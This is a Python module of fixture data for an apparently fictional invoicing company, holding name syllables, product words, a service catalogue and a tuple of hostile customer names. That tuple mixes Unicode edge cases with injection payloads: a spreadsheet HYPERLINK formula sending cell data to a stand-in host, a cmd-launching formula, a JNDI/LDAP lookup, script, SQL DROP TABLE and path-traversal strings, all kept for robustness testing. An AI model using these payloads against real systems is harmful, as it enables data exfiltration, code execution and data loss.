"""Words of the example company: names people really have to bill, and syllables for the rest."""

from __future__ import annotations

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"Pay here")',
    "Zhongxing 中兴贸易有限公司",
    "<script>alert(1)</script>",
    "O'Brien; DROP TABLE invoices;--",
    "東京商事株式会社",
    "ハローワールド合同会社",
    '"Quoted", Comma & Sons',
    "مؤسسة النور التجارية",
    "شركة الكويت للتموين ذ.م.م",
    "Two\nLines Logistics",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+65 Hotline Services",
    "-1+1 Minus Foods",
    "Emoji 🧾🚚 Express",
    "株式会社山田太郎",
    "Ｆｕｌｌｗｉｄｔｈ　Ｃｏ",
    "${jndi:ldap://x} Holdings",
    "\u200fبيت الخليج\u200e (Gulf House)",
    "../../etc/passwd Trading",
    "Long " + "Unterhaltungselektronikvertriebsgesellschaft " * 5 + "GmbH",
    "陈氏兄弟（新加坡）私人有限公司",
    "Ünïcödé Sàrl",
    "%s %d {0} {{name}}",
    "アジア物流　株式会社",
)
ROMAN = (
    "bel", "cor", "dun", "fay", "gil", "hov", "jan", "kes", "lum", "mar", "nox", "pel", "quo", "ras", "sib", "tov",
    "ulm", "vez", "wyn", "xan", "yor", "zup", "bra", "cle", "dri", "fro", "gly", "kru", "sma", "tri", "phe", "osk",
)  # fmt: skip
KANJI = tuple(
    "山川田中島村松林森岡原野石井木藤高橋清水青赤白黒金銀銅鉄光明星月日雪雨風雲海波浜港船桜梅竹菊蘭花草葉"
    "根千万百七五三大小長永新古東西南北春夏秋冬朝夕夜鶴亀鷹鷲虎龍馬鹿熊鳥魚貝谷沢池湖滝泉坂峰丘里町市宮寺"
    "神社門戸車道駅"
)
ARABIC = (
    "با", "تو", "جي", "حر", "خل", "دن", "رم", "زف", "سك", "شب", "صد", "ضم", "طي", "عس", "غن", "فر",
    "قد", "كو", "لي", "مز", "نح", "هب", "ول", "يم", "ثر", "ذك",
)  # fmt: skip
ADJECTIVES = (
    "Steel", "Copper", "Brass", "Nylon", "Oak", "Rubber", "Ceramic", "Carbon", "Glass", "Linen", "Titanium", "Cork",
    "Wool",
)  # fmt: skip
NOUNS = (
    "bolt", "router", "valve", "cable", "panel", "sensor", "bracket", "hinge", "filter", "pump", "lamp", "switch",
    "ladder", "gasket", "relay", "spring", "casing", "meter", "hose",
)  # fmt: skip
# In the order the scripts count on: professional services, what is billed by hand, recurring, usage.
SERVICES = (
    ("Installation", "professional", "hour"),
    ("On-site training", "professional", "day"),
    ("Workshop", "professional", "day"),
    ("Expert report", "by hand", "piece"),
    ("Storage of goods", "by hand", "piece"),
    ("Late-payment interest", "by hand", "piece"),
    ("Fibre line", "subscription", "month"),
    ("Cloud seat", "subscription", "month"),
    ("Colocation rack", "subscription", "month"),
    ("Support plan", "subscription", "month"),
    ("Managed firewall", "subscription", "month"),
    ("API calls", "usage", "call"),
    ("Data traffic", "usage", "GB"),
    ("Parcel labels", "usage", "label"),
    ("Messages", "usage", "message"),
)
